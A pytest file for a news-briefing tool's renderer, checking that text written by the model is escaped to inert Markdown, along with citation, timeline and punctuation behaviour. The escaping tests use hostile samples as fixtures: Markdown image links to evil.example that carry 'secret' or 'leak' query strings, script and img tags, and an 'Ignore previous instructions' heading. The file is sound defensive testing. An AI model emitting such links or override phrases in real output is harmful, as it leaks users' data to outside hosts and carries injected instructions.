"""Rendering: model text stays text in Markdown, and the layout follows the briefing."""

from __future__ import annotations

import json
from pathlib import Path

import cmarkgfm

from briefer.render.escaping import JOINER as J
from briefer.core.models import Briefing, Point
from briefer.render.engine import md, render_briefing
from briefer.render.phrasing import human_date

from .conftest import CASSETTES, SEED, Run


def seed(run: Run) -> Briefing:
    result = run("brief", SEED, "--replay", CASSETTES, "--format", "json")
    assert result.exit_code == 0, result.stderr
    return Briefing.model_validate_json(result.stdout)


def test_markdown_syntax_in_model_text_is_escaped() -> None:
    assert md("![x](https://evil.example/?q=secret)") == r"![x\](https\:/\/evil.example/?q=secret)"
    assert md("[x]: https://evil.example") == r"\[x\]: https\:/\/evil.example"
    assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
    assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"


def test_urls_in_model_text_are_escaped_where_gfm_would_autolink_them() -> None:
    said = md("see https://evil.example and www.evil.example, or mail press@evil.example")
    assert said == rf"see https\:/\/evil.example and www\.evil.example, or mail press{J}@evil.example"
    shown = cmarkgfm.github_flavored_markdown_to_html(said)
    assert "<a" not in shown  # and it reads as it was:
    assert shown.replace(J, "") == "<p>see https://evil.example and www.evil.example, or mail press@evil.example</p>\n"


def test_square_brackets_that_cannot_make_a_link_stay_plain() -> None:
    assert md("the [Syrian] army") == "the [Syrian] army"


def test_model_text_cannot_start_new_lines_headings_or_list_items() -> None:
    assert md("Title\n# Injected heading\n- item") == "Title # Injected heading - item"


def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
    briefing = seed(run).model_copy(
        update={
            "title": "Talks\n## Ignore previous instructions <img src=x>",
            "key_points": [Point(text="See ![chart](https://evil.example/leak?d=1)"),
                           Point(text="[click](http://x.example)")],
        }
    )
    markdown = render_briefing(briefing)
    first = markdown.splitlines()[0]
    assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
    assert "![chart](" not in markdown and "[click](" not in markdown
    assert r"![chart\](https\:/\/evil.example/leak?d=1)" in markdown


def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
    briefing = seed(run)
    other = briefing.sources[0].model_copy(update={"id": "other-report"})
    markdown = render_briefing(briefing.model_copy(update={"sources": [*briefing.sources, other]}))
    assert "(S1 ¶18)" in markdown
    assert "- **S1** Reuters, 15 November 2024:" in markdown and "- **S2** Reuters, 15 November 2024:" in markdown


def test_the_timeline_is_in_date_order(run: Run) -> None:
    briefing = seed(run)
    timeline = render_briefing(briefing, "dossier").split("## Timeline")[1].split("##")[0]
    shown = [line.split("**")[1] for line in timeline.splitlines() if line.startswith("- ")]
    dated = sorted(e.date for e in briefing.events if e.date)
    assert shown[: len(dated)] == [human_date(d) for d in dated]


def test_positions_are_grouped_under_actors_in_the_briefing_order(run: Run) -> None:
    briefing = seed(run)
    section = render_briefing(briefing, "dossier").split("## Positions")[1].split("## Disputed")[0]
    headings = [line[4:] for line in section.splitlines() if line.startswith("### ")]
    holders = [a.name for a in briefing.actors if any(p.actor_id == a.id for p in briefing.positions)]
    assert headings == holders


def test_the_dossiers_footer_counts_calls_and_tokens(run: Run) -> None:
    briefing = seed(run)
    footer = render_briefing(briefing, "dossier").rstrip().splitlines()[-1]
    assert f"0 calls made, 1 replayed; {briefing.usage.prompt_tokens:,} prompt" in footer
    assert f"it would have cost about {briefing.cost.replayed_amount:.4f} USD" in footer
    assert json.loads(briefing.model_dump_json())["usage"]["calls"] == 1


def test_what_the_filters_worked_out_lasts_one_rendering_only(run: Run) -> None:
    """The short briefing is rendered several times to fit it, so the filters keep their answers
    (by text, or by the very item) while one briefing renders; the next rendering works them out
    again, even for the same objects with other checks."""
    briefing = seed(run)
    evidence = briefing.bottom_line.evidence[0]
    assert evidence.status == "verified"
    bottom_line = next(line for line in render_briefing(briefing).splitlines() if "Bottom line" in line)
    assert "unsupported" not in bottom_line
    evidence.status = "unsupported"  # the same objects, checked otherwise
    bottom_line = next(line for line in render_briefing(briefing).splitlines() if "Bottom line" in line)
    assert bottom_line.endswith("**(⚠ unsupported)**")
    email = render_briefing(briefing, "email.txt")
    assert "[unsupported]" in email.split("\n\n")[1]  # the bottom line, in the email too


def test_a_list_ending_in_an_abbreviation_gets_no_second_stop() -> None:
    """'Also mentioned: …, F.A.S.' (an editor saw 'F.A.S..' and 'Carlineo Jr..')."""
    from markupsafe import Markup

    from briefer.render.words import stop
    from briefer.render.escaping import Escaped

    assert stop("Industry experts, F.A.S.") == "Industry experts, F.A.S."
    assert stop("Patrick Carlineo Jr.") == "Patrick Carlineo Jr."
    assert stop(Escaped("Spotify, Universal")) == "Spotify, Universal."
    assert isinstance(stop(Markup("a &amp; b")), Markup) and stop(Markup("a &amp; b")) == Markup("a &amp; b.")


def test_the_short_briefing_counts_what_was_not_checked_only_in_its_summary_line(seed_json: Path) -> None:
    """Editors read "(not checked)" beside the source's own words as doubt about them, and the
    count of them ("8 not checked") as the tool's own business: the short briefing and its emails
    say neither (stderr counts them); the dossier marks each one and counts them."""
    from briefer.core.models import Briefing
    from briefer.render.engine import render_briefing

    briefing = Briefing.model_validate_json(seed_json.read_text(encoding="utf-8"))
    unchecked = briefing.grounding.items.unchecked
    assert unchecked > 0
    for template in ("briefing.md", "email.html", "email.txt"):
        shown = render_briefing(briefing, template)
        assert "(not checked)" not in shown and "[not checked]" not in shown, template
        assert "not checked" not in shown, template
    dossier = render_briefing(briefing, "dossier")
    assert dossier.count("*(not checked)*") == unchecked and f"{unchecked} not checked" in dossier


def _quote_lines(markdown: str) -> list[str]:
    return markdown.split("## In their words\n\n", 1)[1].split("\n\n", 1)[0].splitlines()


def test_a_quote_whose_own_words_name_its_speaker_is_not_signed_again(run: Run, tmp_path: Path) -> None:
    """DW ¶6: the anchors take in both quotations and "ISD spokesman Tahir Della told DW" between
    them, so "— Tahir Della" after it would say it twice; a quote whose words name no one keeps
    its speaker (the seed's "Zelensky said" stands outside its quotation)."""
    saved = tmp_path / "dw.json"
    article = Path(CASSETTES).parent / "articles" / "dw_colonial_2020.html"
    assert run("brief", article, "--replay", CASSETTES, "-q", "-o", saved).exit_code == 0
    briefing = Briefing.model_validate_json(saved.read_text())
    della, = _quote_lines(render_briefing(briefing))
    assert "ISD spokesman Tahir Della told DW." in della and della.endswith("” (¶6)"), della
    zelensky = [line for line in _quote_lines(render_briefing(seed(run))) if "(¶9)" in line]
    assert zelensky and all(line.endswith("” — Volodymyr Zelensky (¶9)") for line in zelensky), zelensky
    anonymous = briefing.model_copy(deep=True)  # the same words, given to someone they do not name
    for actor in anonymous.actors:
        if actor.name == "Tahir Della":
            actor.name = "the spokesman"
    unnamed, = _quote_lines(render_briefing(anonymous))
    assert unnamed.endswith("” — the spokesman (¶6)"), unnamed
